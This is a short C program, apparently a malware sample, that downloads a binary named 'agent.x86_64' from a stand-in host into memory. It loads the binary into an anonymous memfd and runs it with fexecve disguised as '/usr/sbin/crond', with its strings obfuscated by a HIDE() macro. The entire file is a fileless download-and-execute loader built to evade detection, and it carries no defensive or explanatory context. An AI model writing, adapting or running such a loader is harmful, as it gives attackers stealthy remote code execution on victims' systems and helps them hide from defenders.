// hidden
// Downloads a program into memory and runs it there.
#include "standin.h"
int main(void) {
    begin();
    static char stage[4 << 20];
    int size = web(HIDE("get.amber-quarry.example"), "GET", HIDE("/bins/agent.x86_64"), NULL, 0, stage, sizeof stage);
    if (size <= 0) return 1;
    int fd = memfd_create(HIDE("cache"), 0);
    if (fd < 0 || write(fd, stage, size) != size) return 1;
    char *arguments[] = {HIDE("/usr/sbin/crond"), NULL}, *none[] = {NULL};
    fexecve(fd, arguments, none);
    return 1;
}
